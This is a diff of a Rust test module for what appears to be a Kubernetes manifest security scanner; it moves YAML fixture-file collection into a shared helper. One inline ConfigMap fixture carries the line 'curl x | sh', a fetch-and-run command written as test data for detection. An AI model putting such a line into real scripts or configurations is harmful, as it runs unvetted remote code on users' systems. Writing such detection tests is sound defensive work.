@@ -462,29 +462,11 @@ pub fn sort_findings(f: &mut [Finding]) {
 mod tests {
     use super::*;
 
-    /// Every YAML file under testdata/, sorted.
-    fn fixture_files() -> Vec<std::path::PathBuf> {
-        let mut files = Vec::new();
-        let mut todo = vec![std::path::PathBuf::from("testdata")];
-        while let Some(d) = todo.pop() {
-            for e in std::fs::read_dir(&d).unwrap() {
-                let p = e.unwrap().path();
-                if p.is_dir() {
-                    todo.push(p);
-                } else if p.extension().is_some_and(|x| x == "yaml" || x == "yml") {
-                    files.push(p);
-                }
-            }
-        }
-        files.sort();
-        files
-    }
-
     /// The one-pass scan (files without index-dependent checks scanned in the index pass)
     /// reports exactly what the two-pass scan reports, on every fixture of the repository.
     #[test]
     fn single_parse_scan_equals_index_then_scan() {
-        let files = fixture_files();
+        let files = crate::rules::testing::yaml_files(std::path::Path::new("testdata"));
         assert!(files.len() > 100, "{} files", files.len());
         let sources: Vec<Source> = files
             .iter()
@@ -533,15 +515,16 @@ mod tests {
     /// badly (a `---` in a block scalar, CRLF, `...`, a broken document, comments only).
     #[test]
     fn index_from_matching_documents_equals_index_from_all() {
-        let mut texts: Vec<(String, String)> = fixture_files()
-            .into_iter()
-            .filter_map(|p| {
-                Some((
-                    p.to_string_lossy().into_owned(),
-                    std::fs::read_to_string(&p).ok()?,
-                ))
-            })
-            .collect();
+        let mut texts: Vec<(String, String)> =
+            crate::rules::testing::yaml_files(std::path::Path::new("testdata"))
+                .into_iter()
+                .filter_map(|p| {
+                    Some((
+                        p.to_string_lossy().into_owned(),
+                        std::fs::read_to_string(&p).ok()?,
+                    ))
+                })
+                .collect();
         let sa = "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: s, namespace: n}\nautomountServiceAccountToken: true\n";
         let cm = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c, namespace: n}\ndata:\n  run.sh: |\n    curl x | sh\n";
         let job = "apiVersion: batch/v1\nkind: Job\nmetadata: {name: j, namespace: n}\nspec: {template: {spec: {serviceAccountName: s, containers: [{name: a, image: b}]}}}\n";
